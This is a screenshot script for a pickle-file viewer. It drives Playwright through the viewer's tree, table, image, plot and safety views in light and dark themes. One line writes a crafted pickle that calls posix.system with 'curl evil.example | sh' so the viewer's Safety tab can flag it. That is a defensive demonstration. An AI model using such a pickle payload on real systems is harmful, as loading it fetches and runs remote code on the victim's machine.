// Pictures of every view of the viewer, light and dark, on the datasets of demo/: for the README, and to be looked at after a change of the styles.
//
// usage: node test/web/screenshots.js FOLDER [NAME…]   after make build; writes FOLDER/NAME-light.png and FOLDER/NAME-dark.png
import { spawn } from 'node:child_process'
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { dumps, NDArray } from 'brine'
import { chromium } from 'playwright-core'
import { ARGUMENTS, EXECUTABLE } from '../support/chromium.js'
import { palettePng } from './palette-png.js'

const SIZE = { width: 1200, height: 720 }

const demo = (/** @type {string} */ name) => fileURLToPath(new URL(`../../demo/${name}`, import.meta.url))
const [folder, ...wanted] = process.argv.slice(2)
const files = mkdtempSync(join(tmpdir(), 'brine-screenshots-'))
for (const name of ['experiment.pkl', 'datasets/cities.pkl', 'datasets/mnist.pkl.gz', 'datasets/pytorch_model.bin', 'datasets/classifier.joblib'])
  copyFileSync(demo(name), join(files, name.replace('datasets/', '')))

/** Weights as after some steps of training: waves that wander. @param {number} step */
const weights = (step) =>
  NDArray.from(
    Float32Array.from({ length: 48 * 48 }, (_, i) => Math.sin((i % 48) / 6 + step / 9) * Math.cos(Math.floor(i / 48) / 8) * (1 + step / 40)),
    [48, 48],
  )
/** @param {number} step */
const checkpoint = (step) =>
  new Map(
    /** @type {[string, unknown][]} */ ([
      ['step', step * 1000],
      ['optimizer', step > 1 ? 'adamw' : 'adam'],
      ['encoder.weight', weights(step)],
      ['encoder.bias', NDArray.from(Float32Array.from({ length: 48 }, (_, i) => Math.sin(i + step)))],
      ['decoder.weight', weights(step + 3)],
      ...(step > 1 ? /** @type {[string, unknown][]} */ ([['scheduler', 'cosine']]) : []),
      ['losses', NDArray.from(Float64Array.from({ length: 400 }, (_, i) => 2.4 * Math.exp(-i / 90) + 0.12 * Math.sin(i * 1.7) * Math.exp(-i / 200) + 0.2))],
      ['epochs', Array.from({ length: step > 1 ? 12 : 10 }, (_, i) => ({ epoch: i, lr: 0.001 / (1 + i) }))],
    ]),
  )
writeFileSync(join(files, 'run-1.pkl'), dumps(checkpoint(1)))
writeFileSync(join(files, 'run-2.pkl'), dumps(checkpoint(2)))
writeFileSync(join(files, 'downloaded.pkl'), Buffer.from("cposix\nsystem\np0\n(S'curl evil.example | sh'\np1\ntp2\nRp3\n."))

/** @typedef {import('playwright-core').Page} Page */
const tab = (/** @type {string} */ name) => (/** @type {Page} */ page) => page.getByRole('tab', { name, exact: true }).click()

/** The pictures: name, file, path, what is done, and what stands there then. @type {[name: string, file: string, path: string, act: ((page: Page) => Promise<unknown>) | undefined, ready: string][]} */
const PICTURES = [
  [
    'tree',
    'experiment.pkl',
    '',
    async (page) => {
      await page.getByRole('tree').focus()
      for (const key of ['Home', 'ArrowDown', '*']) await page.keyboard.press(key)
    },
    '.value',
  ],
  ['table', 'cities.pkl', '', undefined, '.bars'],
  ['checkpoint', 'pytorch_model.bin', '', undefined, '.table-total'],
  ['slice', 'run-1.pkl', '["encoder.weight"]', undefined, '.cell.is-number'],
  ['pictures', 'mnist.pkl.gz', '[0][0]', tab('Image'), '.picture-cell canvas'],
  [
    'picture',
    'run-1.pkl',
    '["encoder.weight"]',
    async (page) => {
      await tab('Image')(page)
      await page.getByLabel('Colours').selectOption('Viridis')
    },
    '.picture canvas',
  ],
  ['plot', 'run-1.pkl', '.losses', tab('Plot'), '.uplot'],
  ['statistics', 'run-1.pkl', '["decoder.weight"]', tab('Statistics'), '.histogram rect'],
  [
    'pickle',
    'experiment.pkl',
    '',
    async (page) => {
      await tab('Pickle')(page)
      await page.getByLabel('Offset').fill('38')
      await page.getByRole('button', { name: 'Run to offset' }).click()
      await page.getByRole('status', { name: 'Opcode' }).getByText('NEWOBJ').waitFor()
    },
    '.opcode-name',
  ],
  ['safety', 'downloaded.pkl', '', tab('Safety'), '.line code'],
  ['safe', 'pytorch_model.bin', '', tab('Safety'), '.line code'],
  [
    'compare',
    'run-1.pkl',
    '',
    async (page) => {
      await tab('Compare')(page)
      const dialog = page.waitForEvent('filechooser')
      await page.getByRole('button', { name: 'Open another file' }).click()
      await (await dialog).setFiles(join(files, 'run-2.pkl'))
      await page.getByRole('button', { name: 'Picture of ["encoder.weight"]' }).click()
    },
    '.difference-picture canvas',
  ],
]

/** The pixels of a picture, which the browser reads. @param {Page} page @param {Buffer} png */
async function pixelsOf(page, png) {
  const text = await page.evaluate(async (png) => {
    const image = await globalThis.createImageBitmap(new Blob([Uint8Array.from(atob(png), (it) => it.charCodeAt(0))]))
    const context = new globalThis.OffscreenCanvas(image.width, image.height).getContext('2d')
    context?.drawImage(image, 0, 0)
    const { data } = /** @type {OffscreenCanvasRenderingContext2D} */ (context).getImageData(0, 0, image.width, image.height)
    let text = ''
    for (let i = 0; i < data.length; i += 30_000) text += String.fromCharCode(...data.subarray(i, i + 30_000))
    return btoa(text)
  }, png.toString('base64'))
  return Buffer.from(text, 'base64')
}

const server = spawn(process.execPath, [fileURLToPath(new URL('../../js/build/serve.js', import.meta.url)), files], {
  env: { ...process.env, PORT: '0' },
  stdio: ['ignore', 'pipe', 'inherit'],
})
const url = await new Promise((resolve) => server.stdout.once('data', (text) => resolve(/http:\/\/localhost:\d+/.exec(String(text))?.[0])))
const browser = await chromium.launch({ executablePath: EXECUTABLE, args: ARGUMENTS })
mkdirSync(folder, { recursive: true })
try {
  for (const [name, file, path, act, ready] of PICTURES) {
    if (wanted.length && !wanted.includes(name)) continue
    for (const colorScheme of /** @type {const} */ (['light', 'dark'])) {
      const page = await browser.newPage({ viewport: SIZE, colorScheme, reducedMotion: 'reduce' })
      await page.goto(`${url}/?url=/files/${file}#path=${encodeURIComponent(path)}`)
      await page.getByRole('tree').waitFor()
      await act?.(page)
      await page.locator(ready).first().waitFor()
      await page.locator('.chip:not(.is-quiet)').waitFor()
      // Until the heads of columns and the last pictures are drawn.
      await page.waitForTimeout(600)
      const bytes = palettePng(await pixelsOf(page, await page.screenshot()), SIZE.width, SIZE.height)
      writeFileSync(join(folder, `${name}-${colorScheme}.png`), bytes)
      console.log(`${name}-${colorScheme}.png`, bytes.length)
      await page.close()
    }
  }
} finally {
  await browser.close()
  server.kill()
  rmSync(files, { recursive: true })
}
